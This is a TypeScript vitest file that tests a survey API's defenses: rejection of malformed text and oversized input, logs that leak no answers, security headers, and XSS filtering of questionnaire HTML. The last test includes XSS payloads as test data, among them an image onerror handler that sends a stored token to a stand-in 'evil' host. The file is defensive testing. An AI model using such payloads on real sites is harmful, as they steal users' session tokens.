// Issue 13 from outside: bodies no database can store, what the log keeps of a failed upload,
// the security headers, Node's own 431, and script in a published questionnaire.
import { request as httpRequest } from 'node:http';
import { v7 as uuidv7 } from 'uuid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends } from './support/backends';
import { call, expectProblem, login, startTestServer, type TestServer, HOOK_TIMEOUT } from './support/http';

/** A value no log line may ever hold. */
const PLANTED = 'planted-answer-7f3a9c';

function interview(data: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  return {
    questionnaireId: 'household',
    version: 1,
    caseId: 'C-001',
    data,
    paradata: { startedAt: '2026-11-20T08:00:00.000Z', endedAt: '2026-11-20T08:20:00.000Z', deviceId: 'tab-1' },
    disposition: '1.1',
    ...extra,
  };
}

describe.each(backends)('edge validation, logs, headers and questionnaire HTML on %s', (backend) => {
  let t: TestServer;
  const log: string[] = [];
  let ivan: string;
  let manager: string;
  beforeAll(async () => {
    t = await startTestServer(backend, { logLevel: 'info', logStream: { write: (line: string) => { log.push(line); } } });
    ivan = await login(t.base, 'interviewer', t.passwords.interviewer);
    manager = await login(t.base, 'manager', t.passwords.manager);
  }, HOOK_TIMEOUT);
  afterAll(async () => {
    await t?.stop();
  }, HOOK_TIMEOUT);

  it('400 invalid-text for a NUL or an unpaired surrogate in an answer, naming the variable and not the value', async () => {
    for (const bad of [`${PLANTED}\u0000`, `${PLANTED}\ud800`, `\udc00${PLANTED}`]) {
      const body = expectProblem(await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, body: interview({ remarks: bad }) }), 400, 'invalid-text');
      expect(body.detail).toContain('"remarks"');
      expect(JSON.stringify(body)).not.toContain(PLANTED);
    }
    // Also in a key, and the JSON escape written by hand (not produced by JSON.stringify).
    expectProblem(await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, raw: JSON.stringify(interview({ ok: 1 })).replace('"ok"', '"o\\u0000k"') }), 400, 'invalid-text');
    expectProblem(await call(t.base, 'POST', '/session', { raw: '{"username":"a\\u0000b","password":"x"}' }), 400, 'invalid-text');
    // A correct surrogate pair (an emoji) is fine.
    expect((await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, body: interview({ remarks: 'ok \u{1F600}' }) })).status).toBe(201);
  });

  it('400 nesting-too-deep for 10,000 levels, in well under a second', async () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    const started = Date.now();
    const body = expectProblem(await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, raw: `{"data":${deep}}` }), 400, 'nesting-too-deep');
    expect(body.maxDepth).toBe(64);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('400 validation-failed for version 2147483648 (beyond a PostgreSQL integer), in the body and in a path', async () => {
    expectProblem(await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, body: interview({ sex: 1 }, { version: 2147483648 }) }), 400, 'validation-failed');
    expectProblem(await call(t.base, 'GET', '/questionnaires/household/2147483648', { token: ivan }), 400, 'validation-failed');
    expectProblem(await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, body: interview({ sex: 1 }, { paradata: { startedAt: 'x', questionnaireVersion: 2 ** 40 } }) }), 400, 'validation-failed');
  });

  it('400 validation-failed for a __proto__ key (prototype poisoning), as Fastify\'s own parser did', async () => {
    expectProblem(await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, raw: JSON.stringify(interview({ sex: 1 })).replace('"sex"', '"__proto__"') }), 400, 'validation-failed');
  });

  it('a 500 logs the error class and stack frames, never the message, detail or body (a planted answer is nowhere in the log)', async () => {
    // A database error that quotes the body, as PostgreSQL's jsonb errors do in `where`.
    const db = t.server.db;
    const original = db.transaction.bind(db);
    db.transaction = async () => {
      const err = Object.assign(new Error(`invalid input syntax for type json: ${PLANTED}`), { code: '22P02', detail: PLANTED, where: `JSON data, line 1: {"remarks":"${PLANTED}` });
      throw err;
    };
    try {
      const res = await call(t.base, 'PUT', `/submissions/${uuidv7()}`, { token: ivan, body: interview({ remarks: PLANTED }) });
      expectProblem(res, 500, 'internal-error');
      expect(res.text).not.toContain(PLANTED);
    } finally {
      db.transaction = original;
    }
    const text = log.join('');
    expect(text).toContain('request failed');
    expect(text).toContain('22P02');
    expect(text).not.toContain(PLANTED);
  });

  it('security headers on API and app responses; no-store on API answers with tokens or personal data', async () => {
    const res = await call(t.base, 'POST', '/session', { body: { username: 'analyst', password: t.passwords.analyst } });
    expect(res.status).toBe(201);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect((await call(t.base, 'GET', '/submissions', { token: manager })).headers.get('cache-control')).toBe('no-store');
    const root = await fetch(t.base.replace('/api/v1', '/'));
    expect(root.headers.get('content-security-policy')).toBe(csp);
    expect(root.headers.get('x-frame-options')).toBe('DENY');
  });

  it('431 headers-too-large as problem+json from Node\'s own parser', async () => {
    const url = new URL(t.base);
    const { status, type, body } = await new Promise<{ status: number; type: string; body: string }>((resolve, reject) => {
      const req = httpRequest({ host: url.hostname, port: url.port, path: '/api/v1/questionnaires', headers: { 'x-big': 'a'.repeat(40_000) } }, (res) => {
        let text = '';
        res.on('data', (c: Buffer) => { text += c.toString(); });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, type: String(res.headers['content-type']), body: text }));
      });
      req.on('error', reject);
      req.end();
    });
    expect(status).toBe(431);
    expect(type).toMatch(/^application\/problem\+json/);
    expect(JSON.parse(body)).toMatchObject({ code: 'headers-too-large', status: 431 });
  });

  it('refuses a questionnaire whose html element runs script (html-script), and stores other HTML sanitized', async () => {
    const definition = (html: string, title = 'Note') => ({
      title: 'XSS probe',
      pages: [{ name: 'p1', elements: [
        { type: 'html', name: 'intro', html },
        { type: 'text', name: 'q1', title },
      ] }],
    });
    const refused = expectProblem(await call(t.base, 'POST', '/questionnaires', { token: manager, body: { id: 'xss-probe', definition: definition('<img src=x onerror="fetch(\'//evil/\'+localStorage.token)">') } }), 422, 'lint-findings');
    expect((refused.findings as { rule: string }[]).map((f) => f.rule)).toContain('html-script');
    const inTitle = expectProblem(await call(t.base, 'POST', '/questionnaires', { token: manager, body: { id: 'xss-probe', definition: definition('<p>Hi</p>', 'Age <svg onload=alert(1)>') } }), 422, 'lint-findings');
    expect((inTitle.findings as { rule: string }[]).map((f) => f.rule)).toContain('html-script');
    // Markup the quick lint check does not catch is still removed by the sanitizer before storing.
    const sneaky = '<p>Welcome</p><a href=" &#106;avascript:alert(1)">x</a><div style="background:url(//evil)">y</div>';
    const res = await call(t.base, 'POST', '/questionnaires', { token: manager, body: { id: 'xss-probe', definition: definition(sneaky) } });
    expect(res.status).toBe(201);
    const stored = await call(t.base, 'GET', '/questionnaires/xss-probe/1', { token: ivan });
    const html = ((stored.body as { pages: { elements: { html?: string }[] }[] }).pages[0].elements[0].html) as string;
    expect(html).toBe('<p>Welcome</p><a>x</a><div>y</div>');
  });
});
